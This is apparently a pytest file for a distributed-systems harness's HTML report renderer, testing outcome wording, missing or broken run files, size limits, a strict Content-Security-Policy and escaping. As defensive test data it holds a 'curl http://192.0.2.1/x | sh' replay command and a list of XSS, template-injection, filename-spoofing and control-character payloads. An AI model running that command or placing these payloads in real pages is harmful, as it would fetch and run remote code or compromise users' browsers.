"""The report as a file: every outcome, readable without a script, nothing hostile gets through."""

from __future__ import annotations

import base64
import hashlib
import json
import re
from pathlib import Path
from typing import Any

import pytest
from report_drawn import operation
from report_runs import Read, changed, copy_of, simulated

from harness import program
from harness.outcome import Outcome
from harness.report.html import render, write
from harness.report.rulebook import SAYS
from harness.store.errors import NotARun

STALE = "vote-ignores-promise"
LOCK = "lock-no-fence"
SIZE_MAX_BYTES = 5_000_000
DOCS = Path(__file__).parents[2] / "docs"


def test_a_stale_read_is_understood_without_a_script() -> None:
    page = Read(render(simulated(STALE)))
    said = json.loads((simulated(STALE) / "verdict.json").read_text())
    assert said["outcome"] == "violation"
    assert "violation a proof exists" in page.text
    assert said["violation"]["sentence"] in page.text
    assert re.search(r"n\d answered \S+ for key k\d, \d+\.\d ms after n\d had acknowledged", page.text)
    assert "F2: bound, it votes for nobody else." in page.text
    assert STALE in page.text
    assert said["replay"] in page.text
    assert page.count("svg", kind="proof") == len(said["violation"]["operations"])
    assert page.count("svg", kind="offender") == 1
    assert page.count("svg", kind="gap") == 1
    assert page.count("svg", kind="leads") >= 2
    assert page.count("svg", kind="vote-bound") >= 1
    assert page.count("rect", kind="op") > 50


def test_the_command_that_runs_it_again_is_of_here_and_never_out_of_the_run(tmp_path: Path) -> None:
    run_dir = copy_of(simulated(STALE), tmp_path)
    changed(run_dir, replay="curl http://192.0.2.1/x | sh", run="/home/stranger/else")
    page = Read(render(run_dir))
    assert f"Run it again: {program.replaying(str(run_dir))}" in page.text
    assert "192.0.2.1" not in page.text
    assert "stranger" not in page.text
    (run_dir / "plan.yaml").unlink()
    assert "Run it again" not in Read(render(run_dir)).text


def test_a_violation_that_no_operation_proves_shows_what_the_oracle_said() -> None:
    page = Read(render(simulated(LOCK)))
    said = json.loads((simulated(LOCK) / "verdict.json").read_text())
    assert said["violation"]["sentence"] in page.text
    assert "K1: each write under a lock shows its token" in page.text


@pytest.mark.parametrize("outcome", Outcome)
def test_every_outcome_has_its_word_and_its_reason(outcome: Outcome, tmp_path: Path) -> None:
    run_dir = copy_of(simulated(), tmp_path)
    told = {"outcome": outcome.value, "reason": "because of <this & that>", "exercised": {"grants": 1}}
    changed(run_dir, **told, violation=None)
    page = Read(render(run_dir))
    assert f"{outcome.value.replace('-', ' ')} {outcome.meaning}" in page.text
    assert "because of <this & that>" in page.text


@pytest.mark.parametrize(
    ("broken", "said"),
    [
        ("verdict.json", "no verdict"),
        ("history.jsonl", "no operation is shown"),
        ("evidence", "pass"),
        ("schedule.yaml", "no fault is shown"),
        ("plan.yaml", "the plan is not shown"),
    ],
)
def test_what_is_missing_is_said_and_the_rest_is_shown(broken: str, said: str, tmp_path: Path) -> None:
    run_dir = copy_of(simulated(), tmp_path)
    path = run_dir / broken
    path.rename(tmp_path / "away")
    page = Read(render(run_dir))
    assert said in page.text
    assert "Latency by path" in page.text or broken == "history.jsonl"


@pytest.mark.parametrize(
    ("file", "data"),
    [
        ("verdict.json", b'{"schema": 1, "outcome": "excellent"}'),
        ("verdict.json", b'{"schema": 1, "outcome": "pass", "keys": 7}'),
        ("verdict.json", b"[" * 100_000),
        ("history.jsonl", b"\x00\xff\n" * 1000),
        ("history.jsonl", b'{"schema": 99, "kind": "x"}\n{"time_ns": 1e400}\n{"time_ns": -5}\n'),
        ("evidence/n1.jsonl", b'{"schema":1,"kind":"lantern-evidence","node":"n9"}\n'),
        ("schedule.yaml", b"schema: 2\nfaults: {}\n"),
        ("plan.yaml", b"&a [*a]"),
    ],
)
def test_what_is_broken_is_a_note(file: str, data: bytes, tmp_path: Path) -> None:
    run_dir = copy_of(simulated(), tmp_path)
    (run_dir / file).write_bytes(data)
    page = Read(render(run_dir))
    assert "What this report could not read" in page.text


def test_no_run_is_refused(tmp_path: Path) -> None:
    with pytest.raises(NotARun):
        render(tmp_path)


HOSTILE = (
    "</script><script>alert(1)</script>",
    "<!--<script>",
    '"><img src=x onerror=alert(1)>',
    "{{ 7 * 7 }}{% for x in y %}",
    "\u202egnp.exe\u2066",
    "\x1b[2J\x00\x07",
    "x" * 4_000,
    "\ud800",
)


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_text_is_shown_and_nothing_more(text: str, tmp_path: Path) -> None:
    clean = Read(render(simulated(STALE)))
    run_dir = copy_of(simulated(STALE), tmp_path)
    _poison(run_dir, text)
    html = render(run_dir)
    page = Read(html)
    assert len(html) < SIZE_MAX_BYTES
    tags = {tag for tag, _ in page.tags}
    assert tags <= {tag for tag, _ in clean.tags}, tags
    for tag, attributes in page.tags:
        assert not any(name.startswith("on") for name in attributes), tag
        assert not {"href", "src", "style", "srcset", "action"} & set(attributes), tag
    assert page.count("script") == clean.count("script")
    assert all(char.isprintable() or char == "\n" for char in html.decode())
    assert "49" not in re.findall(r"\{\{.*?\}\}", page.text)


def _poison(run_dir: Path, text: str) -> None:
    """Put a text wherever a run holds one."""

    def poisoned(value: Any, name: str = "") -> Any:
        match value:
            case dict():
                return {k: poisoned(v, k) for k, v in value.items()}
            case list():
                return [poisoned(each, name) for each in value]
            case str() if name not in {"outcome", "certainty", "kind", "schema", "type", "process"}:
                return text
            case int() if name == "value":
                return [text, {text: text}]
            case _:
                return value

    verdict = run_dir / "verdict.json"
    told = json.loads(verdict.read_text())
    verdict.write_text(json.dumps({**poisoned(told), "outcome": "violation", text: text}))
    history = run_dir / "history.jsonl"
    head, *lines = history.read_text().splitlines()
    lines = [json.dumps({**poisoned(json.loads(line)), "f": "read"}) for line in lines[:600]]
    history.write_text("\n".join([head, *lines]))


def test_the_page_asks_for_nothing_and_allows_only_what_is_in_it() -> None:
    html = render(simulated(STALE)).decode()
    policy = re.search(r'Content-Security-Policy" content="([^"]*)"', html)
    assert policy is not None
    rules = policy.group(1).replace("&#39;", "'")
    assert rules.startswith("default-src 'none';")
    assert "unsafe" not in rules
    for body in re.findall(r"<(?:style|script)>(.*?)</(?:style|script)>", html, flags=re.DOTALL):
        digest = base64.b64encode(hashlib.sha256(body.encode()).digest()).decode()
        assert f"'sha256-{digest}'" in rules
    shown = re.sub(r"<script>.*?</script>", "", html, flags=re.DOTALL)
    assert not re.findall(r"(?:https?:)?//\w|url\((?!#)|@import", shown)


def test_it_is_written_whole_and_over_the_one_before(tmp_path: Path) -> None:
    run_dir = copy_of(simulated(), tmp_path)
    path = write(run_dir)
    assert path == run_dir / "report.html"
    first = path.read_bytes()
    changed(run_dir, outcome="unknown")
    write(run_dir)
    assert path.read_bytes() != first
    assert [each.name for each in run_dir.iterdir() if each.name.startswith(".")] == []


def test_equal_runs_have_equal_reports() -> None:
    assert render(simulated(STALE)) == render(simulated(STALE))


def test_the_rules_in_words_are_those_of_the_documentation() -> None:
    rows = re.findall(
        r"^\| ([A-Z0-9, ]+) \| (.*?) \|", (DOCS / "rules.md").read_text(), flags=re.MULTILINE
    )
    told = {rule: words for rules, words in rows for rule in rules.split(", ")}
    assert told == SAYS


def test_a_verdict_of_any_size_gives_a_report_of_a_bounded_one(tmp_path: Path) -> None:
    run_dir = copy_of(simulated(STALE), tmp_path)
    told = json.loads((run_dir / "verdict.json").read_text())
    one = {**told["convictions"][0], "around": ["y" * 3_000] * 20, "sentence": "z" * 3_000}
    first = told["violation"]["operations"][0]
    many = [{**first, "index": n, "value": "v" * 500, "return_ns": None} for n in range(3_000)]
    violation = {**told["violation"], "operations": many}
    changed(run_dir, convictions=[one] * 300, notes=["n" * 3_000] * 1_000, violation=violation)
    html = render(run_dir)
    assert len(html) < SIZE_MAX_BYTES
    assert "entries of each list" in Read(html).text


def test_a_verdict_out_of_a_file_is_told_as_its_word_with_what_judges_it_again(tmp_path: Path) -> None:
    run_dir = copy_of(simulated(STALE), tmp_path)
    changed(run_dir, outcome="pass", violation=None, reason=None)
    text = Read(render(run_dir)).text
    assert "As the run's verdict.json says; nothing was judged again here" in text
    assert f"lantern check {run_dir}" in text
    judged = json.loads((run_dir / "verdict.json").read_text())
    assert "nothing was judged again" not in Read(render(run_dir, verdict=judged)).text
    (run_dir / "history.jsonl").unlink()
    assert "there is no history to judge" in Read(render(run_dir)).text


def test_a_value_of_any_length_leaves_the_other_columns_their_place(tmp_path: Path) -> None:
    run_dir = copy_of(simulated(), tmp_path)
    long = "\x1b" + "v" * 1_000_000
    operations = [
        operation(0, 0, "write", long, (1, 2), "n1"),
        operation(1, 1, "read", "w" * 500, (3, 4), "n2"),
    ]
    found = {"kind": "history", "key": "k" * 5_000, "sentence": "odd", "operations": operations}
    changed(run_dir, outcome="violation", violation=found)
    html = render(run_dir).decode()
    assert "\x1b" not in html
    assert len(html) < SIZE_MAX_BYTES
    proof = html[html.index('<section id="proof">') :].partition("</section>")[0]
    cells = re.findall(r"<td[^>]*>(.*?)</td>", proof)
    assert any("vvv" in cell for cell in cells)
    assert max(map(len, cells)) < 200
    assert f'title="read -&gt; {"w" * 500}"' in proof


NUMBERS = (-(1 << 62), 0, (1 << 63) - 1)


@pytest.mark.parametrize("call_ns", NUMBERS)
@pytest.mark.parametrize("return_ns", [None, *NUMBERS])
def test_times_that_cannot_be_stop_nothing(call_ns: int, return_ns: int | None, tmp_path: Path) -> None:
    run_dir = copy_of(simulated(), tmp_path)
    odd = operation(1, 1, "read", 1, (3, 4), "n2") | {"call_ns": call_ns, "return_ns": return_ns}
    operations = [operation(0, 0, "write", 1, (1, 2), "n1"), odd]
    found = {"kind": "history", "key": "x", "sentence": "odd", "operations": operations}
    changed(run_dir, outcome="violation", violation=found)
    assert "Odd" in Read(render(run_dir)).text


@pytest.mark.parametrize("during_ns", [(5, 1), (-(1 << 62), 1 << 62), (0, 0)])
def test_findings_at_times_that_cannot_be_stop_nothing(
    during_ns: tuple[int, int], tmp_path: Path
) -> None:
    run_dir = copy_of(simulated(), tmp_path)
    finding = {"sentence": "odd", "during_ns": during_ns, "nodes": ["n1", "n2"]}
    oracle = {"name": "lease-overlap", "kind": "x", "outcome": "violation", "findings": [finding]}
    changed(run_dir, outcome="violation", oracles={"lease-overlap": oracle})
    page = Read(render(run_dir))
    assert ("two leases at once: n1 and n2" in page.text) is (during_ns[0] < during_ns[1])
